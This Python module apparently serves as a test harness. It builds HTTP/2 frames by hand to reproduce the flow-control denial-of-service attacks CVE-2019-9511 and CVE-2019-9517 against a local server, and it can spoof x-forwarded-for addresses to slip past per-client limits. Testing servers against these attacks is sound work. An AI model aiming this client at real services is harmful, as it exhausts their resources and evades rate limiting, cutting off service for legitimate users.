"""A client of HTTP/2 that asks for pages and takes nothing: every window is closed and stays closed."""

import asyncio
import itertools
import struct
from collections.abc import Sequence
from types import TracebackType
from typing import Literal, Self

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS, _HEADERS, _PING, _GOAWAY, _WINDOW_UPDATE = 4, 1, 6, 7, 8
_OPEN = 2**31 - 1
_INITIAL_WINDOW_SIZE = 4
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1


Mode = Literal["closed", "dribble", "unread"]


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(value: str) -> bytes:
    """HPACK, RFC 7541 5.2: a literal without Huffman coding, shorter than 127 bytes."""
    raw = value.encode()
    if len(raw) >= 127:
        raise ValueError(value)
    return bytes([len(raw)]) + raw


def _headers(fields: Sequence[tuple[str, str]]) -> bytes:
    """HPACK, RFC 7541 6.2.2: literal fields that are not indexed."""
    return b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields)


class ClosedWindows:
    """`connections` × `streams` requests for `path` whose answers nobody takes, until the block ends.

    `mode`: `closed` windows; `dribble` opens them by a byte at a time (CVE-2019-9511); `unread` opens all of them and
    never reads from the socket (CVE-2019-9517).
    `addresses`: the client's, as a proxy in front notes it, one after the other. `source`: of the connections.
    """

    def __init__(
        self,
        port: int,
        path: str,
        *,
        connections: int = 8,
        streams: int = 100,
        addresses: Sequence[str] = (),
        source: str = "127.0.0.1",
        mode: Mode = "closed",
    ) -> None:
        self._port, self._path = port, path
        self._connections, self._streams = connections, streams
        self._source, self._mode = source, mode
        self._addresses = itertools.cycle(addresses or [""])
        self._writers: list[asyncio.StreamWriter] = []
        self._readers: list[asyncio.Task[None]] = []

    async def __aenter__(self) -> Self:
        for _ in range(self._connections):
            await self._open()
        return self

    async def __aexit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        for writer in self._writers:
            writer.transport.abort()
        for reader in self._readers:
            reader.cancel()
        await asyncio.gather(*self._readers, return_exceptions=True)

    async def _open(self) -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", self._port, local_addr=(self._source, 0))
        settings = struct.pack(">HI", _INITIAL_WINDOW_SIZE, _OPEN if self._mode == "unread" else 0)
        writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, settings))
        fields = [(":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", self._path)]
        for number in range(self._streams):
            address = next(self._addresses)
            block = _headers([*fields, ("x-forwarded-for", address)] if address else fields)
            writer.write(_frame(_HEADERS, _END_STREAM | _END_HEADERS, 2 * number + 1, block))
        await writer.drain()
        self._writers.append(writer)
        if self._mode != "unread":
            self._readers.append(asyncio.create_task(self._keep(reader, writer)))
        if self._mode == "dribble":
            self._readers.append(asyncio.create_task(self._dribble(writer)))

    async def _dribble(self, writer: asyncio.StreamWriter) -> None:
        """Open the window of every stream by one byte, ten times a second."""
        while True:
            for number in range(self._streams):
                writer.write(_frame(_WINDOW_UPDATE, 0, 2 * number + 1, struct.pack(">I", 1)))
            await asyncio.sleep(0.1)

    async def _keep(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Acknowledge what keeps the connection alive, and open no window."""
        while True:
            try:
                head = await reader.readexactly(9)
                length = int.from_bytes(head[:3], "big")
                kind, flags = head[3], head[4]
                payload = await reader.readexactly(length)
            except (asyncio.IncompleteReadError, OSError):
                return
            if kind in {_SETTINGS, _PING} and not flags & _ACK:
                writer.write(_frame(kind, _ACK, 0, payload if kind == _PING else b""))
            if kind == _GOAWAY:
                return
